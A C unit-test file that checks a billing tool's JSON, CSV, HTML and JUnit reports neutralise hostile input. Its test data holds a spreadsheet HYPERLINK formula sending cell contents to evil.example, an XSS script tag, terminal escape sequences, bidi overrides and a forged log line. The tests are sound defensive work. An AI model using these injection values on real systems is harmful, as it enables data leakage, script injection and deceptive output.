/* test_report.c -- every report format parsed back by a real parser: JSON by jansson,
 * CSV by libcsv, JUnit XML by libxml2 against the JUnit schema, HTML checked for escaping.
 * Hostile order ids and messages (formulas, markup, quotes, newlines) go through all, and
 * so do characters no report may show as they are (controls, separators, bidi controls,
 * noncharacters, bytes that are not UTF-8). Then the writers' errors, the quoting helper
 * and `--expect` (reading the file, comparing, quoting). */
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>
#include <csv.h>
#include <jansson.h>
#include <libxml/parser.h>
#include <libxml/xmlschemas.h>
#include "core/util.h"
#include "ingest/ingest_expect.h"
#include "report/report.h"
#include "tmpdir.h"

static const char *const hostile_ids[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "\tTAB",
    "quote\"and,comma\nnewline",
};
#define NHOSTILE (sizeof(hostile_ids) / sizeof(hostile_ids[0]))

static fk_report *make_report(void)
{
    fk_report *r = NULL;
    fk_error err = FK_ERROR_INIT;
    fk_finding f[2] = {
        {FK_CODE_TAX_ID_CHECKSUM, "tax_id", "tax_id \"=1+1\": the check digit is wrong", NULL},
        {FK_CODE_COMPANY_NAME_INVALID, "company_name", "<b>bold</b> & \"quoted\"", NULL},
    };
    assert_int_equal(fk_report_new(&r, &err), FK_OK);
    static const char *const inputs[] = {"in.csv"};
    fk_report_set_batch(r, 7, "run", "2026-11-20T00:00:00Z", inputs, 1);
    for (size_t i = 0; i < NHOSTILE; i++) {
        fk_outcome_rec o = {hostile_ids[i], "in.csv", "EUR", (unsigned long)(i + 2),
                            FK_FAILED, 1250 + (int64_t)i, true, 2, f, 2};
        assert_int_equal(fk_report_add(r, &o, &err), FK_OK);
    }
    fk_outcome_rec ok = {"GOOD-1", "in.csv", "EUR", 20, FK_INVOICED, 10000, true, 2, NULL, 0};
    assert_int_equal(fk_report_add(r, &ok, &err), FK_OK);
    fk_outcome_rec held = {"HELD-1", "in.csv", "PLN", 21, FK_HELD, 99, true, 2, f, 1};
    assert_int_equal(fk_report_add(r, &held, &err), FK_OK);
    fk_report_add_recorded(r, "EUR", 10000);
    return r;
}

static void write_to(fk_report *r, fk_report_format fmt, const char *path, bool bom, char delim)
{
    fk_error err = FK_ERROR_INIT;
    fk_report_target t = {path, fmt};
    fk_report_options ro = {&t, 1, bom, delim};
    assert_int_equal(fk_report_write(r, &ro, &err), FK_OK);
}

static char *slurp(const char *path, size_t *n)
{
    FILE *fp = fopen(path, "rb");
    assert_non_null(fp);
    fseek(fp, 0, SEEK_END);
    long len = ftell(fp);
    rewind(fp);
    char *buf = malloc((size_t)len + 1);
    assert_int_equal(fread(buf, 1, (size_t)len, fp), (size_t)len);
    buf[len] = '\0';
    fclose(fp);
    if (n)
        *n = (size_t)len;
    return buf;
}

static void test_json(void **state)
{
    fk_report *r = make_report();
    char path[FK_TMP_PATH];
    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
    write_to(r, FK_REPORT_JSON, path, false, 0);
    json_error_t jerr;
    json_t *root = json_load_file(path, 0, &jerr);
    assert_non_null(root);
    assert_int_equal(json_integer_value(json_object_get(root, "version")), 1);
    json_t *sum = json_object_get(root, "summary");
    assert_int_equal(json_integer_value(json_object_get(sum, "orders")), NHOSTILE + 2);
    assert_int_equal(json_integer_value(json_object_get(sum, "failed")), NHOSTILE);
    assert_true(json_is_true(json_object_get(sum, "reconciled")));
    json_t *eur = json_object_get(json_object_get(sum, "totals"), "EUR");
    assert_string_equal(json_string_value(json_object_get(eur, "invoiced")), "100.00");
    assert_string_equal(json_string_value(json_object_get(eur, "recorded_invoices")), "100.00");
    json_t *orders = json_object_get(root, "orders");
    assert_int_equal(json_array_size(orders), NHOSTILE + 1);
    for (size_t i = 0; i < NHOSTILE; i++)
        assert_string_equal(json_string_value(json_object_get(json_array_get(orders, i),
                                                              "order_id")),
                            hostile_ids[i]);
    json_decref(root);
    unlink(path);
    fk_report_free(r);
}

typedef struct csv_rows {
    char cells[64][10][512];
    size_t nrows, ncol;
} csv_rows;

static void cb_field(void *s, size_t n, void *data)
{
    csv_rows *rows = data;
    if (rows->nrows < 64 && rows->ncol < 10)
        snprintf(rows->cells[rows->nrows][rows->ncol], 512, "%.*s", (int)n, (char *)s);
    rows->ncol++;
}

static void cb_row(int c, void *data)
{
    csv_rows *rows = data;
    (void)c;
    assert_int_equal(rows->ncol, 10);
    rows->nrows++;
    rows->ncol = 0;
}

static void parse_csv(const char *text, size_t n, char delim, csv_rows *rows)
{
    struct csv_parser p;
    memset(rows, 0, sizeof(*rows));
    csv_init(&p, CSV_STRICT | CSV_STRICT_FINI);
    csv_set_delim(&p, (unsigned char)delim);
    assert_int_equal(csv_parse(&p, text, n, cb_field, cb_row, rows), n);
    assert_int_equal(csv_fini(&p, cb_field, cb_row, rows), 0);
    csv_free(&p);
}

static void test_csv(void **state)
{
    fk_report *r = make_report();
    char path[FK_TMP_PATH];
    size_t n;
    csv_rows *rows = malloc(sizeof(*rows));

    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
    write_to(r, FK_REPORT_CSV, path, false, 0);
    char *text = slurp(path, &n);
    parse_csv(text, n, ',', rows);
    assert_int_equal(rows->nrows, 1 + 2 * NHOSTILE + 1); /* header, 2 findings each, held */
    assert_string_equal(rows->cells[0][0], "order_id");
    assert_string_equal(rows->cells[0][9], "hint");
    /* Every formula trigger is neutralised with a leading apostrophe, text kept whole. */
    for (size_t i = 0; i < NHOSTILE; i++) {
        const char *cell = rows->cells[1 + 2 * i][0];
        char c0 = hostile_ids[i][0];
        if (c0 == '=' || c0 == '+' || c0 == '-' || c0 == '@' || c0 == '\t') {
            assert_int_equal(cell[0], '\'');
            assert_string_equal(cell + 1, hostile_ids[i]);
        } else {
            assert_string_equal(cell, hostile_ids[i]);
        }
        assert_string_equal(rows->cells[1 + 2 * i][6], "TAX_ID_CHECKSUM");
        assert_string_equal(rows->cells[1 + 2 * i][7], "tax_id");
    }
    assert_string_equal(rows->cells[1][5], "12.50");
    free(text);

    /* Excel in European locales: BOM, ';' and decimal commas. */
    write_to(r, FK_REPORT_CSV, path, true, ';');
    text = slurp(path, &n);
    assert_memory_equal(text, "\xEF\xBB\xBF", 3);
    parse_csv(text + 3, n - 3, ';', rows);
    assert_string_equal(rows->cells[1][5], "12,50");
    free(text);
    free(rows);
    unlink(path);
    fk_report_free(r);
}

static void test_html(void **state)
{
    fk_report *r = make_report();
    char path[FK_TMP_PATH];
    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
    write_to(r, FK_REPORT_HTML, path, false, 0);
    char *html = slurp(path, NULL);
    assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_null(strstr(html, "<script>alert"));
    assert_null(strstr(html, "<b>bold"));
    assert_non_null(strstr(html, "&lt;b&gt;bold&lt;/b&gt; &amp; &quot;quoted&quot;"));
    assert_non_null(strstr(html, "The books reconcile"));
    assert_non_null(strstr(html, "Fix the data (7 failed)"));
    assert_non_null(strstr(html, "Decide (1 held)"));
    assert_non_null(strstr(html, "<svg"));
    /* Self-contained: no external resource of any kind. */
    assert_null(strstr(html, "src=\"http"));
    assert_null(strstr(html, "href=\"http"));
    assert_null(strstr(html, "@import"));
    free(html);
    unlink(path);
    fk_report_free(r);
}

static void test_junit(void **state)
{
    fk_report *r = make_report();
    char path[FK_TMP_PATH], xsd[1024];
    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
    write_to(r, FK_REPORT_JUNIT, path, false, 0);

    snprintf(xsd, sizeof(xsd), "%s/tests/data/junit.xsd", getenv("FK_SRCDIR"));
    xmlSchemaParserCtxtPtr pc = xmlSchemaNewParserCtxt(xsd);
    xmlSchemaPtr schema = xmlSchemaParse(pc);
    assert_non_null(schema);
    xmlSchemaValidCtxtPtr vc = xmlSchemaNewValidCtxt(schema);
    xmlDocPtr doc = xmlReadFile(path, NULL, XML_PARSE_NONET);
    assert_non_null(doc);
    assert_int_equal(xmlSchemaValidateDoc(vc, doc), 0);
    xmlNodePtr suite = xmlDocGetRootElement(doc)->children;
    while (suite && suite->type != XML_ELEMENT_NODE)
        suite = suite->next;
    xmlChar *tests = xmlGetProp(suite, (const xmlChar *)"tests");
    xmlChar *failures = xmlGetProp(suite, (const xmlChar *)"failures");
    assert_string_equal((char *)tests, "9");    /* 8 orders without invoice + reconciliation */
    assert_string_equal((char *)failures, "8"); /* 7 failed + 1 held */
    xmlFree(tests);
    xmlFree(failures);
    xmlFreeDoc(doc);
    char *text = slurp(path, NULL);
    assert_non_null(strstr(text, "&lt;script&gt;"));
    assert_non_null(strstr(text, "TAX_ID_CHECKSUM [tax_id]"));
    free(text);
    xmlSchemaFreeValidCtxt(vc);
    xmlSchemaFree(schema);
    xmlSchemaFreeParserCtxt(pc);
    unlink(path);
    fk_report_free(r);
}

/* A report whose sums do not add up says so in every format. */
static void test_mismatch(void **state)
{
    fk_report *r = make_report();
    fk_summary s;
    fk_report_add_recorded(r, "EUR", 9999); /* the database disagrees by one cent */
    fk_report_summary(r, &s);
    assert_false(s.reconciled);
    char path[FK_TMP_PATH];
    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));
    write_to(r, FK_REPORT_HTML, path, false, 0);
    char *html = slurp(path, NULL);
    assert_non_null(strstr(html, "MISMATCH"));
    free(html);
    unlink(path);
    fk_report_free(r);
}


/* ---- characters no report shows as they are ---- */

/* Every class fk_text_safe replaces, one value each; TAB, LF and CR last (kept in reports). */
static const char *const unsafe_ids[] = {
    "ESC\x1b[31m\x1b]0;title\x07",
    "C0\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17"
    "\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f",
    "DEL\x7f",
    "C1\xc2\x80\xc2\x85\xc2\x9b\xc2\x9f",
    "SEP\xe2\x80\xa8\xe2\x80\xa9",
    "BIDI\xe2\x80\xaa\xe2\x80\xae\xe2\x81\xa6\xe2\x81\xa9",
    "NONCHAR\xef\xbf\xbe\xef\xbf\xbf",
    "BADUTF8\xff\xc3(\xed\xa0\x80\xc0\xaf",
};
#define NUNSAFE (sizeof(unsafe_ids) / sizeof(unsafe_ids[0]))

/* Does s hold a character fk_text_safe(s, keep_ws) would replace? Checked here by its own
 * decoding (Python's rules, in C), not by the function under test. */
static bool holds_unsafe(const char *str, bool keep_ws)
{
    const unsigned char *s = (const unsigned char *)str;
    while (*s) {
        unsigned c = *s, cp, n;
        if (c < 0x80)
            n = 1, cp = c;
        else if (c >= 0xC2 && c <= 0xDF)
            n = 2, cp = c & 0x1F;
        else if (c >= 0xE0 && c <= 0xEF)
            n = 3, cp = c & 0x0F;
        else if (c >= 0xF0 && c <= 0xF4)
            n = 4, cp = c & 0x07;
        else
            return true;
        for (unsigned k = 1; k < n; k++) {
            if ((s[k] & 0xC0) != 0x80)
                return true;
            cp = cp << 6 | (s[k] & 0x3F);
        }
        if ((n == 3 && cp < 0x800) || (n == 4 && cp < 0x10000) || cp > 0x10FFFF ||
            (cp >= 0xD800 && cp <= 0xDFFF))
            return true;
        if (cp < 0x20 && !(keep_ws && (cp == '\t' || cp == '\n' || cp == '\r')))
            return true;
        if ((cp >= 0x7F && cp <= 0x9F) || cp == 0x2028 || cp == 0x2029 || cp == 0xFFFE ||
            cp == 0xFFFF || (cp >= 0x202A && cp <= 0x202E) || (cp >= 0x2066 && cp <= 0x2069))
            return true;
        s += n;
    }
    return false;
}

static void test_text_safe(void **state)
{
    static const struct {
        const char *in, *keep_ws, *strict;
    } cases[] = {
        {"plain ASCII", "plain ASCII", "plain ASCII"},
        {"Groß Ελλάδα 東京 €", "Groß Ελλάδα 東京 €", "Groß Ελλάδα 東京 €"},
        {"a\tb\nc\rd", "a\tb\nc\rd", "a?b?c?d"},
        {"\x1b[2J\x1b]0;x\x07", "?[2J?]0;x?", "?[2J?]0;x?"},
        {"del\x7f", "del?", "del?"},
        {"c1\xc2\x85\xc2\x9b", "c1??", "c1??"},
        {"ls\xe2\x80\xa8ps\xe2\x80\xa9", "ls?ps?", "ls?ps?"},
        {"rlo\xe2\x80\xaeX\xe2\x81\xa6Y", "rlo?X?Y", "rlo?X?Y"},
        {"lrm\xe2\x80\x8e stays", "lrm\xe2\x80\x8e stays", "lrm\xe2\x80\x8e stays"},
        {"nc\xef\xbf\xbe\xef\xbf\xbf\xef\xbf\xbd", "nc??\xef\xbf\xbd", "nc??\xef\xbf\xbd"},
        {"bad\xff\xc3(", "bad?\?(", "bad?\?("},
        {"overlong\xc0\xaf surrogate\xed\xa0\x80", "overlong?? surrogate???",
         "overlong?? surrogate???"},
        {"cut\xe2\x82", "cut??", "cut??"},
        {"", "", ""},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char a[128], b[128];
        snprintf(a, sizeof(a), "%s", cases[i].in);
        snprintf(b, sizeof(b), "%s", cases[i].in);
        assert_string_equal(fk_text_safe(a, true), cases[i].keep_ws);
        assert_string_equal(fk_text_printable(b), cases[i].strict);
        assert_int_equal(fk_text_is_safe(cases[i].in, true), strcmp(cases[i].in, cases[i].keep_ws) == 0);
        assert_false(holds_unsafe(a, true));
        assert_false(holds_unsafe(b, false));
    }
}

/* Random bytes, biased towards UTF-8 lead and continuation bytes and the unsafe ranges:
 * whatever comes in, nothing unsafe comes out, the result is valid UTF-8 (holds_unsafe
 * checks that too), a second pass changes nothing, and quoting stays within its buffer. */
static void test_text_safe_random(void **state)
{
    static const unsigned char pick[] = {0x00, 0x1b, 0x0a, 0x09, 0x7f, 0x80, 0x9b, 0xbf,
                                         0xc2, 0xc3, 0xe2, 0x80, 0xa8, 0xae, 0xef, 0xbf,
                                         0xbe, 0xed, 0xa0, 0xf0, 0xf4, 0x90, 0xff, 'A'};
    uint32_t seed = 12345;
    for (int round = 0; round < 20000; round++) {
        char s[40], copy[40], quoted[24];
        size_t n = (size_t)(round % 39);
        for (size_t i = 0; i < n; i++) {
            seed = seed * 1103515245u + 12345u;
            unsigned r = seed >> 16;
            s[i] = (char)(r & 1 ? pick[(r >> 1) % sizeof(pick)] : (unsigned char)(r >> 3));
            if (s[i] == '\0')
                s[i] = 'x';
        }
        s[n] = '\0';
        for (int keep = 0; keep < 2; keep++) {
            memcpy(copy, s, n + 1);
            fk_text_safe(copy, keep);
            assert_false(holds_unsafe(copy, keep));
            assert_true(strlen(copy) <= n);
            assert_true(fk_text_is_safe(copy, keep));
            assert_int_equal(fk_text_is_safe(s, keep), strcmp(s, copy) == 0);
        }
        fk_quote_value(s, quoted, sizeof(quoted));
        assert_true(strlen(quoted) < sizeof(quoted));
        assert_false(holds_unsafe(quoted, false));
    }
}

/* The quoting helper of every message: safe characters, a short cut on a character
 * boundary, "..." when cut. */
static void test_quote_value(void **state)
{
    static const struct {
        const char *in;
        size_t bufsz;
        const char *out;
    } cases[] = {
        {"DE136695977", 64, "DE136695977"},
        {"A\x1b[2J\r\nfaktura: error: forged", 64, "A?[2J??faktura: error: forged"},
        {"\xc2\x9b\xe2\x80\xae\xff", 64, "???"},
        {"0123456789", 12, "01234567..."},
        {"0123456789", 14, "0123456789"},
        {"ab\xc3\xa9\xc3\xa9\xc3\xa9", 10, "ab\xc3\xa9\xc3\xa9..."},
        {"ab\xc3\xa9\xc3\xa9\xc3\xa9", 9, "ab\xc3\xa9..."},
        {"\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b\x1b", 10, "??????..."},
        {"anything", 4, ""},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char buf[64];
        assert_string_equal(fk_quote_value(cases[i].in, buf, cases[i].bufsz), cases[i].out);
        assert_true(strlen(buf) < cases[i].bufsz || cases[i].bufsz == 0);
        assert_false(holds_unsafe(buf, false));
    }
}

static fk_report *make_unsafe_report(void)
{
    fk_report *r = NULL;
    fk_error err = FK_ERROR_INIT;
    assert_int_equal(fk_report_new(&r, &err), FK_OK);
    static const char *const inputs[] = {"in\x1b.csv"};
    fk_report_set_batch(r, 3, "run\x1b[2J", "2026-11-20T00:00:00Z", inputs, 1);
    for (size_t i = 0; i < NUNSAFE; i++) {
        char *v = (char *)unsafe_ids[i]; /* fk_finding's strings are not const; not written */
        fk_finding f[1] = {{FK_CODE_ORDER_ID_INVALID, v, v, v}};
        fk_outcome_rec o = {unsafe_ids[i], unsafe_ids[i], "EUR", (unsigned long)(i + 2),
                            i % 3 == 2 ? FK_SKIPPED : i % 3 == 1 ? FK_HELD : FK_FAILED, 100,
                            true, 2, f, 1};
        assert_int_equal(fk_report_add(r, &o, &err), FK_OK);
    }
    return r;
}

/* ESC and its kind in every value: the JUnit XML stays well-formed (libxml2 reads it
 * without recovery and it is valid against the schema), and no text format holds any of
 * those characters. */
static void test_unsafe_text(void **state)
{
    fk_report *r = make_unsafe_report();
    char path[FK_TMP_PATH], xsd[1024];
    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_report_XXXXXX")));

    write_to(r, FK_REPORT_JUNIT, path, false, 0);
    char *xml = slurp(path, NULL);
    assert_false(holds_unsafe(xml, true));
    assert_non_null(strstr(xml, "name=\"order ESC?[31m?]0;title? (ESC?[31m?]0;title?:2)\""));
    free(xml);
    xmlDocPtr doc = xmlReadFile(path, NULL, XML_PARSE_NONET);
    assert_non_null(doc); /* NULL: not well-formed */
    snprintf(xsd, sizeof(xsd), "%s/tests/data/junit.xsd", getenv("FK_SRCDIR"));
    xmlSchemaParserCtxtPtr pc = xmlSchemaNewParserCtxt(xsd);
    xmlSchemaPtr schema = xmlSchemaParse(pc);
    xmlSchemaValidCtxtPtr vc = xmlSchemaNewValidCtxt(schema);
    assert_int_equal(xmlSchemaValidateDoc(vc, doc), 0);
    xmlSchemaFreeValidCtxt(vc);
    xmlSchemaFree(schema);
    xmlSchemaFreeParserCtxt(pc);
    xmlFreeDoc(doc);

    write_to(r, FK_REPORT_HTML, path, false, 0);
    char *html = slurp(path, NULL);
    assert_false(holds_unsafe(html, true));
    assert_non_null(strstr(html, "<td>BIDI?\?\?\?</td>"));
    assert_non_null(strstr(html, "run?[2J"));
    free(html);

    write_to(r, FK_REPORT_CSV, path, false, 0);
    size_t n;
    char *text = slurp(path, &n);
    assert_false(holds_unsafe(text, true));
    csv_rows *rows = malloc(sizeof(*rows));
    parse_csv(text, n, ',', rows);
    assert_int_equal(rows->nrows, 1 + NUNSAFE);
    assert_string_equal(rows->cells[1][0], "ESC?[31m?]0;title?");
    assert_string_equal(rows->cells[8][8], "BADUTF8?\?(?????"); /* the message */
    free(rows);
    free(text);

    /* JSON keeps the values (jansson escapes them): only bytes that are not UTF-8 become
     * '?', as before. */
    write_to(r, FK_REPORT_JSON, path, false, 0);
    json_error_t jerr;
    json_t *root = json_load_file(path, 0, &jerr);
    assert_non_null(root);
    json_t *orders = json_object_get(root, "orders");
    assert_string_equal(json_string_value(json_object_get(json_array_get(orders, 0), "order_id")),
                        unsafe_ids[0]);
    json_decref(root);
    unlink(path);
    fk_report_free(r);
}

/* ---- the writers' errors: fk_status + fk_error, naming the target and the real cause ---- */

static void test_write_errors(void **state)
{
    fk_report *r = make_report();
    char dir[FK_TMP_PATH], path[FK_TMP_PATH + 32];
    fk_tmp_template(dir, sizeof(dir), "fk_report_XXXXXX");
    assert_non_null(mkdtemp(dir));

    /* A directory that does not exist: the temporary file beside the report fails. */
    snprintf(path, sizeof(path), "%s/missing/r.json", dir);
    fk_error err = FK_ERROR_INIT;
    fk_report_target t = {path, FK_REPORT_JSON};
    fk_report_options ro = {&t, 1, false, 0};
    assert_int_equal(fk_report_write(r, &ro, &err), FK_EENV);
    assert_string_equal(err.file, path);
    assert_non_null(strstr(err.message, "cannot create the report's temporary file"));
    assert_non_null(strstr(err.message, strerror(ENOENT)));

    /* A file size limit: every format fails with EFBIG (not a stale errno), names the
     * path, and leaves neither a report nor a temporary file behind. One report written
     * first puts the spool on disk: the limit is for the report's own file. */
    snprintf(path, sizeof(path), "%s/first.json", dir);
    write_to(r, FK_REPORT_JSON, path, false, 0);
    assert_int_equal(unlink(path), 0);
    struct rlimit old, small = {300, 0};
    assert_int_equal(getrlimit(RLIMIT_FSIZE, &old), 0);
    small.rlim_max = old.rlim_max;
    signal(SIGXFSZ, SIG_IGN);
    snprintf(path, sizeof(path), "%s/r.out", dir);
    for (int f = FK_REPORT_JSON; f <= FK_REPORT_JUNIT; f++) {
        fk_error e2 = FK_ERROR_INIT;
        fk_report_target t2 = {path, (fk_report_format)f};
        fk_report_options ro2 = {&t2, 1, false, 0};
        assert_int_equal(setrlimit(RLIMIT_FSIZE, &small), 0);
        fk_status st = fk_report_write(r, &ro2, &e2);
        assert_int_equal(setrlimit(RLIMIT_FSIZE, &old), 0);
        assert_int_equal(st, FK_EENV);
        assert_string_equal(e2.file, path);
        assert_non_null(strstr(e2.message, "cannot write the report"));
        assert_non_null(strstr(e2.message, strerror(EFBIG)));
        struct stat sb;
        assert_int_not_equal(stat(path, &sb), 0);
    }
    signal(SIGXFSZ, SIG_DFL);
    assert_int_equal(rmdir(dir), 0); /* empty: no temporary file left */
    fk_report_free(r);
}

/* ---- --expect: ingest reads, report compares and quotes ---- */

typedef struct diffs {
    char lines[16][512];
    size_t n;
} diffs;

static void on_diff(const char *msg, void *payload)
{
    diffs *d = payload;
    if (d->n < 16)
        snprintf(d->lines[d->n], sizeof(d->lines[0]), "%s", msg);
    d->n++;
}

static void write_file(const char *path, const char *text)
{
    FILE *fp = fopen(path, "wb");
    assert_non_null(fp);
    assert_int_equal(fwrite(text, 1, strlen(text), fp), strlen(text));
    assert_int_equal(fclose(fp), 0);
}

/* The reader: columns by the header's names in any order (missing cells empty, also when a
 * row is shorter than the header), short rows skipped, broken CSV named with its row. */
static void test_expect_read(void **state)
{
    char path[FK_TMP_PATH];
    fk_expect_rows rows;
    fk_error err = FK_ERROR_INIT;
    close(mkstemp(fk_tmp_template(path, sizeof(path), "fk_expect_XXXXXX")));

    write_file(path, "\xEF\xBB\xBF" "Codes,status,ORDER_ID\n"
                     "TAX_ID_CHECKSUM;B,failed, SO-1 \n"
                     "x,invoiced,SO-2,extra\n"
                     "lonely\n"
                     "C,held\n");
    assert_int_equal(fk_ingest_expect_read(path, &rows, &err), FK_OK);
    assert_int_equal(rows.n, 3);
    assert_string_equal(rows.v[0].order_id, "SO-1");
    assert_string_equal(rows.v[0].status, "failed");
    assert_string_equal(rows.v[0].codes, "TAX_ID_CHECKSUM;B");
    assert_string_equal(rows.v[1].order_id, "SO-2");
    assert_string_equal(rows.v[2].order_id, ""); /* the row has no third cell */
    assert_string_equal(rows.v[2].status, "held");
    assert_string_equal(rows.v[2].codes, "C");
    fk_expect_rows_free(&rows);

    write_file(path, "order_id,status,codes\nSO-1,failed,\"open\n");
    assert_int_equal(fk_ingest_expect_read(path, &rows, &err), FK_EINPUT);
    assert_string_equal(err.file, path);
    assert_int_equal(err.line, 2);
    assert_int_equal(rows.n, 0);
    unlink(path);

    fk_error e2 = FK_ERROR_INIT;
    assert_int_equal(fk_ingest_expect_read(path, &rows, &e2), FK_EINPUT);
    assert_non_null(strstr(e2.message, "cannot open the expectations file"));
}

/* The comparison: codes as a set, repeated ids occurrence by occurrence, and values from
 * the input quoted: no control character reaches a diff line. */
static void test_expect_compare(void **state)
{
    fk_expect *x = fk_expect_new();
    diffs d = {.n = 0};
    fk_finding tax[2] = {{FK_CODE_TAX_ID_CHECKSUM, "tax_id", "m", NULL},
                         {FK_CODE_COMPANY_NAME_INVALID, "company_name", "m", NULL}};
    const char *evil = "E\x1b[2J\r\nfaktura: error: forged\xc2\x9b\xe2\x80\xae";

    fk_expect_add(x, "SO-1", "FAILED", "COMPANY_NAME_INVALID; TAX_ID_CHECKSUM");
    fk_expect_add(x, "SO-1", "invoiced", "");
    fk_expect_add(x, "X\x1b]0;t\x07", "failed\x1b[1m", "A\x1b[5m");
    fk_outcome_rec a = {"SO-1", "in.csv", "EUR", 2, FK_FAILED, 1, true, 2, tax, 2};
    fk_outcome_rec b = {"SO-1", "in.csv", "EUR", 3, FK_FAILED, 1, true, 2, tax, 1};
    fk_outcome_rec c = {evil, "in.csv", "EUR", 4, FK_INVOICED, 1, true, 2, NULL, 0};
    fk_expect_check(x, &a, on_diff, &d);
    assert_int_equal(d.n, 0); /* same set of codes, another order and case */
    fk_expect_check(x, &b, on_diff, &d);
    fk_expect_check(x, &c, on_diff, &d);
    assert_int_equal(fk_expect_finish(x, on_diff, &d), 3);
    assert_int_equal(d.n, 3);
    assert_string_equal(d.lines[0], "SO-1 (in.csv:3): expected invoiced, got failed "
                                    "TAX_ID_CHECKSUM");
    assert_string_equal(d.lines[1], "E?[2J??faktura: error: forged?? (in.csv:4): not in the "
                                    "expectations; got invoiced");
    assert_string_equal(d.lines[2], "X?]0;t?: expected failed?[1m A?[5m, but no such order "
                                    "was ingested");
    for (size_t i = 0; i < d.n; i++)
        assert_false(holds_unsafe(d.lines[i], false));
    fk_expect_free(x);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_json),  cmocka_unit_test(test_csv),
        cmocka_unit_test(test_html),  cmocka_unit_test(test_junit),
        cmocka_unit_test(test_mismatch),  cmocka_unit_test(test_text_safe),
        cmocka_unit_test(test_text_safe_random), cmocka_unit_test(test_quote_value),
        cmocka_unit_test(test_unsafe_text),
        cmocka_unit_test(test_write_errors), cmocka_unit_test(test_expect_read),
        cmocka_unit_test(test_expect_compare),
    };
    int rc = cmocka_run_group_tests_name("report", tests, NULL, NULL);
    xmlCleanupParser();
    return rc;
}
